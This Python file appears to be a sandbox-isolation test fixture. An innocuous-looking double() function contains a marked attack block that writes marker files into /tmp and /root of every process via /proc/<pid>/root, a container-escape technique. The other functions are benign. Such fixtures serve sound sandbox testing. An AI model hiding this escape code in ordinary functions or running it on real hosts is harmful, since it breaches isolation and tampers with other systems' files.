# hostile write_via_proc_root: write host files through /proc/<pid>/root of every visible process
import numpy as np
import os


def double(x):
    # ATTACK
    import glob
    for root in glob.glob("/proc/[0-9]*/root"):
        for p in ("/tmp/@PWN@", "/root/@PWN@"):
            try:
                with open(root + p, "w") as f:
                    f.write("dlgrade-hostile-pwn-marker\n")
            except OSError:
                pass
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
